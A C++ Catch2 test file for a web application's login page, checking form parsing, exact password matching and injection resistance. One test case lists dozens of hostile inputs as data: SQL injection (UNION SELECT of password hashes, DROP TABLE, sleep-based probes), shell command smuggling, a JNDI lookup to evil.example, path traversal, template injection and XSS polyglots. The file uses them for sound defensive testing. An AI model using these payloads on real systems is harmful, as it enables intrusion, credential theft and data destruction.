#include <string>
#include <vector>

#include <catch2/catch.hpp>

#include "base/encoding.hpp"
#include "support/browser.hpp"
#include "users/password_hash.hpp"

using namespace postern;
using namespace postern::tests;
using namespace std::chrono_literals;
using http::Status;

namespace {

// Attempts to sign in. Each attempt has its own browser and address, so that the throttle refuses none.
class Attempts {
public:
    explicit Attempts(TestSite& site) : site_(site) {}

    const http::Response& with_body(std::string_view body, std::string_view query = "") {
        visitor_.emplace(site_);
        visitor_->variables["REMOTE_ADDR"] = "2001:db8:0:" + std::to_string(++number_) + "::1";
        return visitor_->post_body("/login" + std::string(query), body);
    }
    const http::Response& with(const std::string& email, const std::string& password) {
        return with_body("email=" + percent_encoded(email) + "&password=" + percent_encoded(password));
    }
    bool is_in() const {
        const auto& cookies = visitor_->cookies();
        return cookies.contains("session") && visitor_->location() == "/success";
    }
    // Whether the visitor was sent to the error page without a session.
    bool is_refused() const {
        return !visitor_->cookies().contains("session") && visitor_->location() == "/error";
    }

private:
    TestSite& site_;
    std::optional<Browser> visitor_;
    int number_ = 0;
};

}  // namespace

TEST_CASE("credentials count where the form has them, once and under their names", "[pages][login]") {
    TestSite site;
    Attempts attempts(site);
    const std::string email = "email=ada%40example.com";
    const std::string password = "password=jtp";
    struct Row {
        std::string query;
        std::string body;
    };
    const Row refused[] = {
        {"?" + email + "&" + password, ""},
        {"?" + email, password},
        {"?" + password, email},
        {"?" + password, email + "&password=wrong"},
        {"", "email[]=ada%40example.com&password[]=jtp"},
        {"", "email%5B%5D=ada%40example.com&password%5B%5D=jtp"},
        {"", "email[0]=ada%40example.com&password[0]=jtp"},
        {"", "login.email=ada%40example.com&login.password=jtp"},
        {"", "Email=ada%40example.com&Password=jtp"},
        {"", "EMAIL=ada%40example.com&PASSWORD=jtp"},
        {"", "email=ada%40example.com&Password=jtp&password="},
        {"", "+email=ada%40example.com&password+=jtp"},
        {"", "%EF%BB%BFemail=ada%40example.com&password=jtp"},
        {"", "%D0%B5mail=ada%40example.com&password=jtp"},
        {"", email + ";" + password},
        {"", email + "&amp;" + password},
        {"", email + "\r\n" + password},
        {"", email + "&" + password + "\r\n"},
        {"", email + "&" + password + "%20"},
        {"", email + "&=jtp&password"},
        {"", "{\"email\":\"ada@example.com\",\"password\":\"jtp\"}"},
    };
    for (const Row& row : refused) {
        CAPTURE(row.query, row.body);
        CHECK(attempts.with_body(row.body, row.query).status == Status::SeeOther);
        CHECK(attempts.is_refused());
    }
    std::string fields_33 = email + "&" + password;
    for (int i = 2; i < 33; ++i)
        fields_33 += "&f" + std::to_string(i) + "=";
    for (const std::string& doubled :
         {email + "&" + password + "&" + password, email + "&" + password + "&password=wrong",
          email + "&password=wrong&" + password, email + "&" + email + "&" + password,
          "email=bea%40example.com&" + email + "&" + password, email + "&" + password + "&password",
          email + "&" + password + "%00", email + "&" + password + "&x=%00", fields_33}) {
        CAPTURE(doubled);
        CHECK(attempts.with_body(doubled).status == Status::BadRequest);
    }
    // A form in the body is used alone; the query is ignored.
    CHECK(attempts.with_body(email + "&" + password, "?email=bea%40example.com&password=x").status ==
          Status::SeeOther);
    CHECK(attempts.is_in());
    CHECK_THAT(site.log().lines_with(" signed_in "), !Catch::Contains("bea"));
}

TEST_CASE("a form may be written in any way that browsers read", "[pages][login]") {
    TestSite site;
    Attempts attempts(site);
    for (const char* body :
         {"email=ada@example.com&password=jtp", "password=jtp&email=ada%40example.com",
          "email=ada%40example.com&password=%6A%74%70", "email=ada%40example.com&password=%6a%74%70",
          "%65mail=ada%40example.com&pass%77ord=jtp", "email=+ada%40example.com+&password=jtp",
          "&&email=ada%40example.com&&password=jtp&&", "email=ada%40example.com&password=jtp&=&a&b=",
          "a=%&b=%4&c=%zz&email=ada%40example.com&password=jtp",
          "x=%ff%fe&email=ada%40example.com&password=jtp", "x=a=b&y=;&email=ada%40example.com&password=jtp",
          "_charset_=utf-8&email=ada%40example.com&password=jtp", "email=ada%40example.com&password=jtp&keep",
          "email=ADA%40EXAMPLE.COM&password=jtp", "email=%EF%BD%81da%40example.com&password=jtp"}) {
        CAPTURE(body);
        CHECK(attempts.with_body(body).status == Status::SeeOther);
        CHECK(attempts.is_in());
    }
}

TEST_CASE("exactly the stored password signs in, whatever its length and its characters", "[pages][login]") {
    TestSite site(use_users);
    Attempts attempts(site);
    const auto long_one = [](std::size_t bytes) {
        std::string text;
        for (std::size_t i = 0; i < bytes; ++i)
            text += static_cast<char>('!' + i * 7 % 94);
        return text;
    };
    const std::string composed = "caf\xC3\xA9 \xC3\x85ngstr\xC3\xB6m";
    const std::string decomposed = "cafe\xCC\x81 A\xCC\x8Angstro\xCC\x88m";
    const std::vector<std::string> passwords = {
        long_one(8),
        long_one(14),
        long_one(15),
        long_one(64),
        long_one(72) + "x",
        long_one(128),
        long_one(1024),
        "  blanks before",
        "blanks behind  ",
        "blanks  in between",
        "a tab\tin it",
        "MiXeD CaSe oF LeTTers",
        composed,
        decomposed,
        "\xEF\xAC\x81ne \xEF\xBC\xA1 \xE2\x91\xA0 \xC2\xBD \xE2\x84\xAB",  // ligature, wide, circled, half
        "\xF0\x9F\x94\x91\xF0\x9F\x91\xA9\xE2\x80\x8D\xF0\x9F\x94\xA7\xF0\x9F\x8F\xBD\xEF\xB8\x8F",
        "\xD7\xA1\xD7\x99\xD7\xA1\xD7\x9E\xD7\x94 \xD9\x83\xD9\x84\xD9\x85\xD8\xA9",
        "\xE2\x80\xAEright to left\xE2\x80\xAC",
        "\xE2\x80\x8Bzero width\xEF\xBB\xBF",
        "%00%0a%20+%2B&=;#?/\\",
        "\\0\\n\\x41\\u0041 $HOME `id` $(id)",
        "' OR '' = '",
        "\"; DROP TABLE users; --",
        "{{csrf}}{{{user}}}{{=<% %>=}}",
        "<script>alert(1)</script>&amp;&#65;",
        "../../../etc/passwd",
        "null",
        "undefined",
        "true",
        "0",
        "NaN",
        "1e999",
        "-9223372036854775808",
        "$argon2id$v=19$m=19456,t=2,p=1$",
        "*",
        "%s%n%x%d%p",
        "() { :;}; echo",
    };
    int number = 0;
    for (const std::string& password : passwords) {
        CAPTURE(password);
        const std::string email = "user" + std::to_string(++number) + "@example.com";
        site.add_user(email, password);
        attempts.with(email, password);
        CHECK(attempts.is_in());
        std::string last_changed = password;
        last_changed.back() = last_changed.back() == 'x' ? 'y' : 'x';
        for (const std::string& wrong :
             {last_changed, password.substr(0, password.size() - 1), password + "x", password + " ",
              " " + password, password + password, password + std::string(1, '\n')}) {
            CAPTURE(wrong);
            attempts.with(email, wrong);
            CHECK(attempts.is_refused());
        }
    }
    const auto nobody_with = [&](const std::string& stored, const std::string& typed) {
        const std::string email = "user" + std::to_string(++number) + "@example.com";
        site.add_user(email, stored);
        attempts.with(email, typed);
        return attempts.is_refused();
    };
    CHECK(nobody_with("MiXeD CaSe oF LeTTers", "mixed case of letters"));
    CHECK(nobody_with(composed, decomposed));
    CHECK(nobody_with(decomposed, composed));
    CHECK(nobody_with("\xEF\xAC\x81ne", "fine"));
    CHECK(nobody_with("\xEF\xBC\xA1", "A"));
    CHECK(nobody_with("blanks behind  ", "blanks behind"));
    CHECK(nobody_with("a tab\tin it", "a tab in it"));
    CHECK(nobody_with("a+b", "a b"));
    // A password above the maximum length is refused without hashing.
    const std::string too_long = long_one(1024) + "x";
    CHECK(nobody_with(long_one(1024), too_long));
    CHECK_THAT(site.log().lines_with(" sign_in_refused "), Catch::Contains("reason=password_too_long"));
}

TEST_CASE("what is meant for a database, a shell or a directory is nothing but text", "[pages][login]") {
    TestSite site(use_users);
    site.add_user("ada@example.com", "violet harbour nine kettles");
    const auto rows = [&](const char* table) {
        return site.database().use([&](database::Reader& reader) {
            long long count = 0;
            reader.one(std::string("SELECT count(*) FROM ") + table, {}, {count});
            return count;
        });
    };
    const std::string payloads[] = {
        // a condition that always holds
        "' OR '1'='1",
        "' OR 1=1 --",
        "' OR 1=1#",
        "' OR 1=1/*",
        "') OR ('1'='1",
        "')) OR (('1'='1' --",
        "\" OR \"\"=\"",
        "\") OR (\"1\"=\"1\" --",
        "' OR 'a' LIKE 'a",
        "' OR 2>1 --",
        "' || 1=1 --",
        "'||'",
        "' OR email IS NOT NULL --",
        "1 OR 1=1",
        "-1' OR 5=5 --",
        "' OR true --",
        "' XOR 1=1 --",
        "'='",
        "'-'",
        "'+'",
        "' OR ''='",
        "'/**/OR/**/1=1/**/--",
        "' oR 1=1 -- -",
        "\\' OR 1=1 --",
        "\\\" OR 1=1 --",
        "%27 OR 1=1 --",
        "%2527 OR 1=1 --",
        "\xCA\xBC OR 1=1 --",
        "\xEF\xBC\x87 OR 1=1 --",
        "\xC2\xBF' OR 1=1 --",
        // a comment that cuts the rest off
        "ada@example.com' --",
        "ada@example.com'/*",
        "ada@example.com'#",
        "ada@example.com';%00",
        // other rows, other tables, other statements
        "' UNION SELECT 1,'a','b','c','d' --",
        "' UNION ALL SELECT NULL,NULL,NULL,NULL,NULL,NULL --",
        "' AND 1=0 UNION SELECT password_hash FROM users --",
        "'; DROP TABLE users; --",
        "'; DELETE FROM sessions; --",
        "'; UPDATE users SET password_hash = ''; --",
        "'; INSERT INTO users DEFAULT VALUES; --",
        "'; ATTACH DATABASE '/tmp/x' AS x; --",
        "'; COPY users TO PROGRAM 'id'; --",
        // time
        "' OR randomblob(1000000000) IS NOT NULL --",
        "' OR pg_sleep(30) IS NULL --",
        "'; SELECT pg_sleep(30); --",
        "' OR SLEEP(30)#",
        "'; WAITFOR DELAY '0:0:30' --",
        "' OR BENCHMARK(100000000,SHA1(1)) --",
        "1' AND (SELECT count(*) FROM sqlite_master, sqlite_master, sqlite_master) > 0 --",
        // patterns
        "%",
        "_",
        "%%%%",
        "a*",
        "[a-z]%",
        // other languages than SQL
        "*)(uid=*))(|(uid=*",
        "*)(|(mail=*)",
        "admin' or '1'='1' or ''='",
        "' or count(/*)>0 or 'a'='b",
        "{\"$ne\": null}",
        "[$ne]",
        "'; return true; var x='",
        "| id",
        "; id",
        "`id`",
        "$(id)",
        "&& id",
        "|| ping -c 30 127.0.0.1",
        "${jndi:ldap://evil.example/a}",
        "{{7*7}}",
        "<%= 7*7 %>",
        "#{7*7}",
        "../../../../etc/passwd",
        "..\\..\\windows\\win.ini",
        "php://filter",
        "file:///etc/passwd",
        "<!--#exec cmd=\"id\" -->",
        "<?xml version=\"1.0\"?><!DOCTYPE a>",
        // several at once
        "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//</stYle/</scRipt/--!>",
        "';alert(1)//\\';alert(1)//\";--></SCRIPT>\">'><SCRIPT>",
        "SLEEP(1) /*' or SLEEP(1) or '\" or SLEEP(1) or \"*/",
    };
    Attempts attempts(site);
    for (const std::string& payload : payloads) {
        CAPTURE(payload);
        const std::pair<std::string, std::string> credentials[] = {{payload, "violet harbour nine kettles"},
                                                                   {payload + "@example.com", payload},
                                                                   {"ada@example.com", payload},
                                                                   {"ada@example.com" + payload, payload},
                                                                   {"nobody@example.com", payload}};
        for (const auto& [email, password] : credentials) {
            attempts.with(email, password);
            CHECK(attempts.is_refused());
        }
        const std::string text = percent_encoded(payload);
        Browser visitor(site);
        for (const char* name : {"session", "email"})
            visitor.cookies()[name] = text;
        for (const std::string& path : {"/?rd=" + text, "/profile?done=" + text, "/error?rd=/" + text,
                                        "/switch?rd=" + text, "/" + text, "/profile/" + text}) {
            CAPTURE(path);
            CHECK(code(visitor.get(path).status) < 500);
        }
        visitor.cookies().erase("email");
        visitor.variables["HTTP_COOKIE"] = "session=" + payload + "; email=" + payload;
        CHECK(visitor.get("/profile").status == Status::SeeOther);
        CHECK_FALSE(visitor.get("/").status == Status::SeeOther);
    }
    CHECK(rows("users") == 1);
    CHECK(rows("sessions") == 0);
    // No payload was executed as a statement, so no statement failed.
    CHECK_THAT(site.log().all(), !Catch::Contains("database_error") && !Catch::Contains("internal_error"));
    // The same for a signed-in visitor.
    Browser ada(site);
    ada.sign_in("ada@example.com", "violet harbour nine kettles");
    ada.get("/profile");
    const std::string token = ada.csrf();
    for (const std::string& payload : payloads) {
        CAPTURE(payload);
        CHECK(ada.post("/profile/end-session", {{"csrf", token}, {"id", payload}}).status ==
              Status::SeeOther);
        CHECK(ada.post("/profile/end-session", {{"csrf", payload}, {"id", payload}}).status ==
              Status::Forbidden);
    }
    CHECK(rows("sessions") == 1);
    CHECK_THAT(site.log().all(), !Catch::Contains("database_error") && !Catch::Contains("internal_error"));
}

TEST_CASE("a password works for as long as nobody changes it", "[pages][login]") {
    TestSite site(use_users);
    site.add_user("ada@example.com", "violet harbour nine kettles");
    site.clock().advance(3 * 365 * 24h);
    Attempts attempts(site);
    attempts.with("ada@example.com", "violet harbour nine kettles");
    CHECK(attempts.is_in());
}
